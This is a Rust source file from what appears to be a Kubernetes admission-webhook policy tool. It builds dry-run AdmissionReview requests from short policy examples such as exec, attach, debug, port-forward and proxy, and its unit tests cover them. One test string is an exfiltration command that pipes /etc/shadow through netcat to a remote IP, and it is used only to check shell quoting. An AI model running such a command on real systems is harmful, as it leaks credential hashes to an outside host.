//! A rule's example, written the short way in the policy, as the AdmissionReview the API server
//! would send for it: the same review `check` judges in-process and `reconguard validate` sends
//! to a running webhook. Every review is a dry run, so a webhook that counts or records requests
//! can tell them apart.

use std::sync::Arc;

use k8s_openapi::api::core::v1::PodSpec;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
use serde_json::{json, Value};

use crate::context::{Context, NamespacePods, TargetPod};

use crate::policy::model::{Example, ProxyExample};

/// Who the example reviews say sent them.
pub const EXAMPLE_USER: &str = "reconguard:validate";
/// Where the example pods live.
pub const EXAMPLE_NAMESPACE: &str = "default";
const EXAMPLE_POD: &str = "reconguard-example";
/// The container of the pod an exec, attach or debug example targets.
const TARGET_CONTAINER: &str = "app";

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum ExampleError {
    #[error("names no request: give one of exec, attach, pod, debug, portForward, proxy")]
    Empty,
    #[error("names more than one request ({0}): give exactly one")]
    Several(String),
    #[error("{0} applies only to {1}")]
    Misplaced(&'static str, &'static str),
    #[error("exec needs a command")]
    EmptyCommand,
    #[error("proxy target {0:?} is not pod, service or node")]
    ProxyTarget(String),
    #[error("target is not a pod spec: {0}")]
    Target(String),
}

/// The kind of request an example is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExampleKind {
    Exec,
    Attach,
    Pod,
    Debug,
    PortForward,
    Proxy,
}

impl ExampleKind {
    pub fn of(example: &Example) -> Result<ExampleKind, ExampleError> {
        let given: Vec<(ExampleKind, &str)> = [
            (example.exec.is_some(), ExampleKind::Exec, "exec"),
            (example.attach == Some(true), ExampleKind::Attach, "attach"),
            (example.pod.is_some(), ExampleKind::Pod, "pod"),
            (example.debug.is_some(), ExampleKind::Debug, "debug"),
            (
                example.port_forward.is_some(),
                ExampleKind::PortForward,
                "portForward",
            ),
            (example.proxy.is_some(), ExampleKind::Proxy, "proxy"),
        ]
        .into_iter()
        .filter(|(set, _, _)| *set)
        .map(|(_, kind, name)| (kind, name))
        .collect();
        let kind = match given.as_slice() {
            [] => return Err(ExampleError::Empty),
            [(kind, _)] => *kind,
            several => {
                let names: Vec<&str> = several.iter().map(|(_, n)| *n).collect();
                return Err(ExampleError::Several(names.join(", ")));
            }
        };
        let streams = example.stdin.is_some() || example.tty.is_some();
        if streams && !matches!(kind, ExampleKind::Exec | ExampleKind::Attach) {
            return Err(ExampleError::Misplaced("stdin and tty", "exec and attach"));
        }
        if example.annotations.is_some() && kind != ExampleKind::Pod {
            return Err(ExampleError::Misplaced("annotations", "pod"));
        }
        if example.target.is_some() && matches!(kind, ExampleKind::Pod | ExampleKind::Proxy) {
            return Err(ExampleError::Misplaced(
                "target",
                "exec, attach, portForward and debug",
            ));
        }
        if (example.namespace.is_some() || example.workload.is_some()) && kind != ExampleKind::Pod {
            return Err(ExampleError::Misplaced("namespace and workload", "pod"));
        }
        if example.exec.as_ref().is_some_and(Vec::is_empty) {
            return Err(ExampleError::EmptyCommand);
        }
        Ok(kind)
    }
}

/// One line for people: `exec: ps aux`, `pod: {"hostPID":true,...}`.
pub fn describe(example: &Example) -> String {
    let text = match ExampleKind::of(example) {
        Ok(ExampleKind::Exec) => {
            let argv = example.exec.clone().unwrap_or_default();
            let flags = match (example.stdin == Some(true), example.tty == Some(true)) {
                (true, true) => " -it",
                (true, false) => " -i",
                (false, true) => " -t",
                (false, false) => "",
            };
            format!("kubectl exec{flags} POD -- {}", shell_words(&argv))
        }
        Ok(ExampleKind::Attach) => "kubectl attach -it POD".to_string(),
        Ok(ExampleKind::Pod) => {
            let spec = example.pod.clone().unwrap_or(Value::Null);
            match &example.annotations {
                Some(a) => format!("pod annotations {} spec {spec}", json!(a)),
                None => format!("pod spec {spec}"),
            }
        }
        Ok(ExampleKind::Debug) => format!(
            "kubectl debug: ephemeral container {}",
            example.debug.clone().unwrap_or(Value::Null)
        ),
        Ok(ExampleKind::PortForward) => {
            let ports = example.port_forward.clone().unwrap_or_default();
            if ports.is_empty() {
                "kubectl port-forward POD (ports not named in the request)".to_string()
            } else {
                let ports: Vec<String> = ports.iter().map(u16::to_string).collect();
                format!("kubectl port-forward POD {}", ports.join(" "))
            }
        }
        Ok(ExampleKind::Proxy) => match &example.proxy {
            Some(p) => format!(
                "kubectl get --raw /api/v1/{}s/{}/proxy{}",
                p.target, p.name, p.path
            ),
            None => String::new(),
        },
        Err(e) => format!("(invalid example: {e})"),
    };
    let mut text = text;
    if let Some(user) = &example.user {
        text.push_str(&format!(", as {user}"));
    }
    if let Some(target) = &example.target {
        text.push_str(&format!(", into a pod with spec {target}"));
    }
    if let Some(n) = &example.namespace {
        text.push_str(&format!(
            ", in a namespace of {} running pods ({} controller-managed)",
            n.pods, n.managed
        ));
    }
    if let Some(w) = &example.workload {
        text.push_str(&format!(", the requester's token held by running {w}"));
    }
    match &example.name {
        Some(name) => format!("{name}: {text}"),
        None => text,
    }
}

/// argv as a shell would need it typed, for reading only.
fn shell_words(argv: &[String]) -> String {
    argv.iter()
        .map(|a| {
            let plain = !a.is_empty()
                && a.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_./:=,@%+".contains(c));
            if plain {
                a.clone()
            } else {
                format!("'{}'", a.replace('\'', r"'\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// The running pod exec, attach and debug examples target: a plain one unless the example gives
/// the target's spec.
fn target_pod(spec: Option<&Value>) -> Value {
    let plain =
        json!({"containers": [{"name": TARGET_CONTAINER, "image": "registry.example/app:1.0"}]});
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": EXAMPLE_POD, "namespace": EXAMPLE_NAMESPACE},
        "spec": spec.cloned().unwrap_or(plain),
    })
}

/// Whether an example needs the pod cache's context, which a request sent to a webhook cannot
/// carry (a debug example's target is in its review).
pub fn needs_context(example: &Example) -> bool {
    (example.target.is_some() && example.debug.is_none())
        || example.namespace.is_some()
        || example.workload.is_some()
}

/// The context the server's pod cache would give the example's request.
pub fn context(example: &Example) -> Result<Context, ExampleError> {
    let mut context = Context::default();
    if let (Some(spec), None) = (&example.target, &example.debug) {
        let spec: PodSpec = serde_json::from_value(spec.clone())
            .map_err(|e| ExampleError::Target(e.to_string()))?;
        let meta = ObjectMeta {
            name: Some(EXAMPLE_POD.to_string()),
            namespace: Some(EXAMPLE_NAMESPACE.to_string()),
            ..Default::default()
        };
        context.target = Some(Arc::new(TargetPod::from_parts(&meta, &spec)));
    }
    if let Some(n) = &example.namespace {
        context.namespace = Some(NamespacePods {
            pods: n.pods,
            managed: n.managed,
            creators: n.creators.clone(),
        });
    }
    context.requester_workload = example.workload.clone();
    Ok(context)
}

/// The AdmissionReview the API server would send for `example`, as a dry run.
pub fn review(example: &Example, uid: &str) -> Result<Value, ExampleError> {
    let kind = ExampleKind::of(example)?;
    let connect = |sub: &str, options_kind: &str, object: Value| {
        (
            json!({"group": "", "version": "v1", "kind": options_kind}),
            json!({"group": "", "version": "v1", "resource": "pods"}),
            Some(sub.to_string()),
            EXAMPLE_POD.to_string(),
            "CONNECT",
            object,
            Value::Null,
        )
    };
    let streams = |object: &mut Value| {
        object["stdin"] = json!(example.stdin.unwrap_or(false));
        object["tty"] = json!(example.tty.unwrap_or(false));
    };
    let (gvk, resource, sub, name, operation, object, old) = match kind {
        ExampleKind::Exec => {
            let mut options = json!({
                "kind": "PodExecOptions", "apiVersion": "v1", "stdout": true, "stderr": true,
                "container": TARGET_CONTAINER, "command": example.exec,
            });
            streams(&mut options);
            connect("exec", "PodExecOptions", options)
        }
        ExampleKind::Attach => {
            let mut options = json!({
                "kind": "PodAttachOptions", "apiVersion": "v1", "stdout": true, "stderr": true,
                "container": TARGET_CONTAINER,
            });
            streams(&mut options);
            connect("attach", "PodAttachOptions", options)
        }
        ExampleKind::PortForward => {
            let mut options = json!({"kind": "PodPortForwardOptions", "apiVersion": "v1"});
            let ports = example.port_forward.clone().unwrap_or_default();
            if !ports.is_empty() {
                options["ports"] = json!(ports);
            }
            connect("portforward", "PodPortForwardOptions", options)
        }
        ExampleKind::Proxy => {
            let ProxyExample { target, name, path } =
                example.proxy.clone().unwrap_or_else(|| ProxyExample {
                    target: String::new(),
                    name: String::new(),
                    path: String::new(),
                });
            let (resource, options_kind) = match target.as_str() {
                "pod" => ("pods", "PodProxyOptions"),
                "service" => ("services", "ServiceProxyOptions"),
                "node" => ("nodes", "NodeProxyOptions"),
                other => return Err(ExampleError::ProxyTarget(other.to_string())),
            };
            (
                json!({"group": "", "version": "v1", "kind": options_kind}),
                json!({"group": "", "version": "v1", "resource": resource}),
                Some("proxy".to_string()),
                name,
                "CONNECT",
                json!({"kind": options_kind, "apiVersion": "v1", "path": path}),
                Value::Null,
            )
        }
        ExampleKind::Pod => {
            let mut pod = target_pod(None);
            pod["spec"] = example.pod.clone().unwrap_or(Value::Null);
            if let Some(annotations) = &example.annotations {
                pod["metadata"]["annotations"] = json!(annotations);
            }
            (
                json!({"group": "", "version": "v1", "kind": "Pod"}),
                json!({"group": "", "version": "v1", "resource": "pods"}),
                None,
                EXAMPLE_POD.to_string(),
                "CREATE",
                pod,
                Value::Null,
            )
        }
        ExampleKind::Debug => {
            let old = target_pod(example.target.as_ref());
            let mut new = old.clone();
            new["spec"]["ephemeralContainers"] = json!([example.debug]);
            (
                json!({"group": "", "version": "v1", "kind": "Pod"}),
                json!({"group": "", "version": "v1", "resource": "pods"}),
                Some("ephemeralcontainers".to_string()),
                EXAMPLE_POD.to_string(),
                "UPDATE",
                new,
                old,
            )
        }
    };
    let mut request = json!({
        "uid": uid, "kind": gvk, "resource": resource, "requestKind": gvk,
        "requestResource": resource, "name": name, "namespace": EXAMPLE_NAMESPACE,
        "operation": operation,
        "userInfo": {"username": example.user.as_deref().unwrap_or(EXAMPLE_USER), "groups": ["system:authenticated"]},
        "object": object, "oldObject": old, "dryRun": true,
    });
    if let Some(sub) = sub {
        request["subResource"] = json!(sub);
        request["requestSubResource"] = json!(sub);
    }
    if kind == ExampleKind::Proxy {
        // Node proxies are cluster-scoped.
        if example.proxy.as_ref().is_some_and(|p| p.target == "node") {
            request.as_object_mut().map(|r| r.remove("namespace"));
        }
    }
    Ok(json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn example(yaml: &str) -> Example {
        serde_saphyr::from_str(yaml).unwrap()
    }

    #[test]
    fn each_kind_reads_as_the_subject_it_stands_for() {
        use crate::subject::SubjectBody;
        for (yaml, expect) in [
            ("exec: [ps, aux]\nstdin: true", "Exec"),
            ("attach: true\ntty: true", "Attach"),
            ("pod: {containers: [{name: c, image: busybox}]}", "Pod"),
            ("debug: {name: d, image: busybox}", "Pod"),
            ("portForward: [10250]", "PortForward"),
            ("portForward: []", "PortForward"),
            (
                "proxy: {target: node, name: 'n:10250', path: /pods}",
                "Proxy",
            ),
        ] {
            let review = review(&example(yaml), "u").unwrap();
            let bytes = serde_json::to_vec(&review).unwrap();
            let request = crate::admission::read_review(&bytes).unwrap();
            assert!(request.dry_run, "{yaml}");
            let subject = crate::subject::from_request(&request).unwrap();
            let got = match &subject.body {
                SubjectBody::Exec(_) => "Exec",
                SubjectBody::Attach(_) => "Attach",
                SubjectBody::Pod(_) => "Pod",
                SubjectBody::PortForward(_) => "PortForward",
                SubjectBody::Proxy(_) => "Proxy",
                SubjectBody::Skipped(why) => panic!("{yaml}: skipped: {why}"),
            };
            assert_eq!(got, expect, "{yaml}");
        }
    }

    #[test]
    fn an_example_names_exactly_one_request() {
        assert_eq!(
            ExampleKind::of(&example("name: x")),
            Err(ExampleError::Empty)
        );
        assert!(matches!(
            ExampleKind::of(&example("exec: [ls]\npod: {}")),
            Err(ExampleError::Several(_))
        ));
        assert!(matches!(
            ExampleKind::of(&example("pod: {}\nstdin: true")),
            Err(ExampleError::Misplaced(..))
        ));
        assert_eq!(
            ExampleKind::of(&example("exec: []")),
            Err(ExampleError::EmptyCommand)
        );
    }

    #[test]
    fn descriptions_quote_what_a_shell_would_split() {
        let e = example("exec: [sh, -c, \"cat /etc/shadow | nc 10.0.0.1 4444\"]\nstdin: true");
        assert_eq!(
            describe(&e),
            "kubectl exec -i POD -- sh -c 'cat /etc/shadow | nc 10.0.0.1 4444'"
        );
    }
}
